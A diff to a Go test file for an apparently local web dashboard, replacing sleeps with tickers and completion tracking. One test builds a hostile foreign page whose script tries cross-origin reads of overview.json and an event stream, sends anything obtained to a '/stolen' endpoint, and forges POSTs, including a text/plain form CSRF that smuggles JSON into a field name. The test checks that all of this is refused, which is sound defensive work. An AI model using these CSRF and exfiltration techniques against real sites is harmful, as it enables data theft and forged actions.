@@ -130,9 +130,11 @@ func TestUX08StreamOutlivesWriteTimeout(t *testing.T) {
 	h := handler(t, srv, &tap.Options{Allow: tap.Loopback(tap.Look | tap.Payloads)})
 	s := serve(t, srv, prefix, mount(prefix, h), func(web *httptest.Server) { web.Config.WriteTimeout = time.Second })
 	p := s.tap("chan:orders.*", "all")
+	tick := time.NewTicker(400 * time.Millisecond)
+	defer tick.Stop()
 	for i := 1; i <= 8; i++ {
+		<-tick.C
 		send(s, "orders.paid", i, i)
-		time.Sleep(400 * time.Millisecond)
 	}
 	p.until(fmt.Sprintf(`(%s).Rows === 8`, readCounts))
 	assert.Equal(t, 1, p.streams(), "the stream was cut and made again")
@@ -220,12 +222,15 @@ func TestForeignPageGetsNothing(t *testing.T) {
 		fmt.Fprintf(w, `<!doctype html><title>other</title><link rel=icon href=icon.svg><body><iframe src="%[1]stap"></iframe>
 <form id=f method=post enctype="text/plain" target=g action="%[1]semit?channel=orders.paid"><input name='{"id":1,"x":"' value='"}'></form><iframe name=g></iframe>
 <script>
+const tried = new Set();
+addEventListener('load', () => tried.add('frame'));
 const tell = (what, x) => fetch('/stolen?what=' + what + '&x=' + encodeURIComponent(String(x).slice(0, 100)));
-fetch('%[1]soverview.json').then(r => r.text()).then(x => tell('fetch', x), () => {});
-fetch('%[1]soverview.json', {mode: 'no-cors'}).then(r => { if (r.type !== 'opaque') tell('opaque', r.type) }, () => {});
-const es = new EventSource('%[1]sevents?rate=all'); es.onmessage = es.onopen = e => tell('stream', e.data); es.addEventListener('record', e => tell('record', e.data));
-fetch('%[1]semit?channel=orders.paid', {method: 'POST', mode: 'no-cors', headers: {'Content-Type': 'text/plain'}, body: '{"id":1}'}).catch(() => {});
-fetch('%[1]semit?channel=orders.paid', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: '{"id":1}'}).catch(() => {});
+fetch('%[1]soverview.json').then(r => r.text()).then(x => tell('fetch', x), () => {}).then(() => tried.add('fetch'));
+fetch('%[1]soverview.json', {mode: 'no-cors'}).then(r => { if (r.type !== 'opaque') return tell('opaque', r.type) }, () => {}).then(() => tried.add('opaque'));
+const es = new EventSource('%[1]sevents?rate=all'); es.onmessage = es.onopen = e => tell('stream', e.data); es.addEventListener('record', e => tell('record', e.data)); es.addEventListener('error', () => tried.add('stream'));
+fetch('%[1]semit?channel=orders.paid', {method: 'POST', mode: 'no-cors', headers: {'Content-Type': 'text/plain'}, body: '{"id":1}'}).catch(() => {}).then(() => tried.add('emit as text'));
+fetch('%[1]semit?channel=orders.paid', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: '{"id":1}'}).catch(() => {}).then(() => tried.add('emit'));
+document.querySelector('[name=g]').addEventListener('load', () => tried.add('form'));
 f.submit();
 </script>`, s.page)
 	})
@@ -242,7 +247,7 @@ f.submit();
 	p.expect(`.`) // what it tries is refused, and the console says so
 	p.open(other.URL)
 	send(s, "orders.paid", 100, 110)
-	time.Sleep(time.Second)
+	p.until(`tried.size === 7`)
 	assert.Empty(t, stolen)
 	for m, ok := mine.TryReceive(); ok; m, ok = mine.TryReceive() {
 		assert.GreaterOrEqual(t, m.Event.ID, 100, "a foreign page has sent an event")
